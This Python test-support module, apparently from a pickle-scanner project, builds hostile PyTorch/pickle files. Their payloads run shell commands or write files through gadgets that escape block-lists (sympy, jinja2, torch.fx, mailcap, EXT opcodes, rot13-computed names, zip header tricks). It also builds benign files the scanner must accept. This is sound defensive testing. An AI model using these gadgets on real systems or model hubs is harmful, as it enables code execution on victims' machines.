"""Issue 50's hostile pickles: callables on no block-list that run code or touch files, names a
static reading cannot resolve (EXT codes, ``STACK_GLOBAL`` names computed at load time), a
cloudpickled function; and the benign files of popular libraries that ``scan`` must pass.

Each hostile builder takes the marker path its payload creates and returns the file's bytes;
which are live is never assumed: ``tests/workers/liveness_worker.py`` loads each with
``torch.load(weights_only=False)`` in a throwaway process. ``python -m
tests.support.effect_cases DIR`` writes them (markers under ``DIR/markers``).
"""

from __future__ import annotations

import base64
import datetime
import functools
import struct
import sys
from collections.abc import Callable
from pathlib import Path

from tests.support.adversarial import global_reduce_p2, legacy_stream, torch_zip

P4 = b"\x80\x04"


def s(text: str) -> bytes:
    """A string (BINUNICODE)."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def g(module: str, name: str) -> bytes:
    """A global by ``STACK_GLOBAL`` (protocol 4: a dotted name is followed)."""
    return s(module) + s(name) + b"\x93"


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` by ``REDUCE``."""
    return func + b"(" + b"".join(args) + b"tR"


def dict_(**items: bytes) -> bytes:
    return b"}(" + b"".join(s(k) + v for k, v in items.items()) + b"u"


def list_(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def _open(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _shell(marker: Path) -> str:
    return f"__import__('os').system('touch {marker}')"


def _pickle(body: bytes) -> bytes:
    return P4 + body + b"."


def _ext(size: int, code: int, marker: Path) -> bytes:
    """``copyreg.add_extension('posix', 'system', code)``, then the ``EXT`` opcode of ``size``
    bytes that fetches it, called (protocol 2, as ``torch.save`` writes)."""
    register = b"ccopyreg\nadd_extension\n" + s("posix") + s("system") + b"J"
    register += struct.pack("<i", code) + b"\x87R0"
    opcode = {1: b"\x82", 2: b"\x83", 4: b"\x84"}[size] + code.to_bytes(size, "little")
    return b"\x80\x02" + register + opcode + s(f"touch {marker}") + b"\x85R."


def _cloudpickled(marker: Path) -> bytes:
    import cloudpickle

    touch = eval(f"lambda: {_open(marker)}")  # a lambda: cloudpickle pickles it by value

    class Run:
        def __reduce__(self) -> tuple[Callable[[], None], tuple[()]]:
            return touch, ()

    return cloudpickle.dumps(Run(), protocol=4)


def _computed_names(marker: Path) -> bytes:
    module = call(g("_codecs", "encode"), s("cbfvk"), s("rot13"))  # "posix"
    name = call(g("_codecs", "encode"), s("flfgrz"), s("rot13"))  # "system"
    return _pickle(module + name + b"\x93" + b"(" + s(f"touch {marker}") + b"tR")


def _zip_bad_crc(marker: Path) -> bytes:
    """A torch zip whose data.pkl's CRC-32 (local header and directory) is wrong: torch's
    reader runs the pickle all the same."""
    data = bytearray(torch_zip(global_reduce_p2(marker)))
    crc = data[14:18]
    wrong = bytes(b ^ 0xFF for b in crc)
    return bytes(data).replace(bytes(crc), wrong)


def _zip_local_name_differs(marker: Path) -> bytes:
    """data.pkl's local header names another file than its directory entry: torch's reader
    goes by the directory."""
    data = torch_zip(global_reduce_p2(marker))
    return data.replace(b"archive/data.pkl", b"archivX/data.pkl", 1)


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _npy_with_pickle(marker: Path) -> bytes:
    """An ``.npy`` of object dtype: ``numpy.lib.format.read_array(f, True)`` unpickles its
    data, a payload."""
    import io

    import numpy as np

    buffer = io.BytesIO()
    header = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    np.lib.format.write_array_header_1_0(buffer, header)
    return buffer.getvalue() + global_reduce_p2(marker)


#: name -> builder(marker) -> file bytes; every one runs its payload under torch.load.
HOSTILE: dict[str, Callable[[Path], bytes]] = {
    "fx_exec_with_source.pt": lambda m: _pickle(
        call(g("torch.fx.graph_module", "_exec_with_source"), s(_open(m)), b"}")
    ),
    "fx_reduce_graph_module.pt": lambda m: _pickle(
        call(
            g("torch.fx.graph_module", "reduce_graph_module"),
            dict_(_code=s("def forward(self):\n    return None\n")),
            s(_open(m) + "\n"),
        )
    ),
    "inductor_pycodecache.pt": lambda m: _pickle(
        call(g("torch._inductor.codecache", "PyCodeCache.load"), s(_open(m) + "\n"))
    ),
    "benchmark_timer.pt": lambda m: _pickle(
        call(
            g("torch.utils.benchmark.utils.timer", "Timer.timeit"),
            call(g("torch.utils.benchmark.utils.timer", "Timer"), s(_open(m))),
            b"K\x01",
        )
    ),
    "sympy_sympify.pt": lambda m: _pickle(call(g("sympy", "sympify"), s(_shell(m)))),
    "sympy_parse_expr.pt": lambda m: _pickle(
        call(g("sympy.parsing.sympy_parser", "parse_expr"), s(_shell(m)))
    ),
    "jinja2_render.pt": lambda m: _pickle(
        call(
            g("jinja2", "Template.render"),
            call(
                g("jinja2", "Template"),
                s(f"{{{{ cycler.__init__.__globals__.os.system('touch {m}') }}}}"),
            ),
        )
    ),
    "typing_eval_type.pt": lambda m: _pickle(
        call(g("typing", "_eval_type"), call(g("typing", "ForwardRef"), s(_shell(m))), b"}", b"}")
    ),
    "dataclasses_create_fn.pt": lambda m: _pickle(
        call(
            g("dataclasses", "_create_fn"), s("f"), list_(s(f"x={_shell(m)}")), list_(s("return x"))
        )
    ),
    "mailcap_findmatch.pt": lambda m: _pickle(
        call(
            g("mailcap", "findmatch"),
            b"}" + s("a/b") + list_(dict_(view=s("true"), test=s(f"touch {m}"))) + b"s",
            s("a/b"),
        )
    ),
    "imaplib_stream.pt": lambda m: _pickle(call(g("imaplib", "IMAP4_stream"), s(f"touch {m}"))),
    "uuid_command_stdout.pt": lambda m: _pickle(
        call(g("uuid", "_get_command_stdout"), s("touch"), s(str(m)))
    ),
    "psutil_popen.pt": lambda m: _pickle(call(g("psutil", "Popen"), list_(s("touch"), s(str(m))))),
    "pathlib_write_text.pt": lambda m: _pickle(
        call(g("pathlib", "Path.write_text"), call(g("pathlib", "PosixPath"), s(str(m))), s("x"))
    ),
    "fsspec_pipe_file.pt": lambda m: _pickle(
        call(
            g("fsspec.implementations.local", "LocalFileSystem.pipe_file"),
            g("fsspec.implementations.local", "LocalFileSystem") + b")R",
            s(str(m)),
            b"C\x01x",
        )
    ),
    "builtins_of_trusted_module.pt": lambda m: _pickle(
        call(call(g("torch._utils", "__builtins__.get"), s("exec")), s(_open(m)))
    ),
    "cloudpickle_function.pt": _cloudpickled,
    "ext1_after_add_extension.pt": lambda m: _ext(1, 240, m),
    "ext2_after_add_extension.pt": lambda m: _ext(2, 300, m),
    "ext4_after_add_extension.pt": lambda m: _ext(4, 70000, m),
    "ext1_in_zip.pt": lambda m: torch_zip(_ext(1, 241, m)),
    "ext2_in_legacy_stream.pt": lambda m: legacy_stream(_ext(2, 301, m)),
    "computed_stack_global.pt": _computed_names,
    "computed_stack_global_in_zip.pt": lambda m: torch_zip(_computed_names(m)),
    # bytes handed to a loader: torch.load of a hostile archive, unpickling of an .npy
    "load_from_bytes.pt": lambda m: _pickle(
        call(g("torch.storage", "_load_from_bytes"), binbytes(torch_zip(global_reduce_p2(m))))
    ),
    "load_from_bytes_base64.pt": lambda m: _pickle(
        call(
            g("torch.storage", "_load_from_bytes"),
            call(
                g("base64", "b64decode"),
                s(base64.b64encode(torch_zip(global_reduce_p2(m))).decode()),
            ),
        )
    ),
    "deserialize_torch_artifact.pt": lambda m: _pickle(
        call(
            g("torch._export.serde.serialize", "deserialize_torch_artifact"),
            binbytes(torch_zip(global_reduce_p2(m))),
        )
    ),
    "npy_read_array.pt": lambda m: _pickle(
        call(
            g("numpy.lib.format", "read_array"),
            call(g("io", "BytesIO"), binbytes(_npy_with_pickle(m))),
            b"\x88",
        )
    ),
    "zip_bad_crc.pt": _zip_bad_crc,
    "zip_local_name_differs.pt": _zip_local_name_differs,
    "mailcap_in_zip.pt": lambda m: torch_zip(
        _pickle(
            call(
                g("mailcap", "findmatch"),
                b"}" + s("a/b") + list_(dict_(view=s("true"), test=s(f"touch {m}"))) + b"s",
                s("a/b"),
            )
        )
    ),
}


def write_hostile(folder: Path, markers: Path) -> list[Path]:
    paths = []
    for name, build in HOSTILE.items():
        (folder / name).write_bytes(build(markers / name))
        paths.append(folder / name)
    return paths


def _fastai_style_learner() -> dict[str, object]:
    """What fastai's exported Learner and skorch's net keep besides weights: ``print`` as the
    logger, settings, a date."""
    return {"logger": print, "lr": 1e-3, "created": datetime.datetime(2026, 1, 2, 3, 4, 5)}


def write_benign(folder: Path) -> list[Path]:
    """Benign files of popular libraries, written by those libraries (and torch.save)."""
    import torch
    from omegaconf import OmegaConf

    paths: list[Path] = []

    def save(name: str, obj: object, **kwargs: object) -> None:
        torch.save(obj, folder / name, **kwargs)
        paths.append(folder / name)

    save("fastai_style_learner.pt", _fastai_style_learner())
    save("datetime.pt", {"when": datetime.datetime.now(datetime.timezone.utc),
                         "day": datetime.date(2026, 1, 2), "took": datetime.timedelta(3)})  # fmt: skip
    save("partial_adam.pt", {"optimizer": functools.partial(torch.optim.Adam, lr=1e-3)})
    model = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU(), torch.nn.LayerNorm(2))
    save("module_whole.pt", model)
    save("module_whole_p4.pt", model, pickle_protocol=4)
    save("omegaconf.pt", {"cfg": OmegaConf.create({"lr": 0.1, "layers": [1, 2]})})
    return paths


def write_trainer_folder(folder: Path) -> Path:
    """A transformers Trainer output folder (one checkpoint) from a tiny local-config model."""
    import torch
    from transformers import GPT2Config, GPT2LMHeadModel, Trainer, TrainingArguments

    torch.manual_seed(0)
    model = GPT2LMHeadModel(GPT2Config(n_layer=1, n_head=2, n_embd=8, vocab_size=16, n_positions=8))
    ids = torch.randint(0, 16, (4, 8))
    data = [{"input_ids": row, "labels": row} for row in ids]
    args = TrainingArguments(
        output_dir=str(folder), max_steps=1, save_steps=1, per_device_train_batch_size=2,
        report_to=[], use_cpu=True, logging_strategy="no",
        disable_tqdm=True,
    )  # fmt: skip
    Trainer(model=model, args=args, train_dataset=data).train()
    return folder


if __name__ == "__main__":
    out = Path(sys.argv[1])
    (out / "markers").mkdir(parents=True, exist_ok=True)
    write_hostile(out, out / "markers")
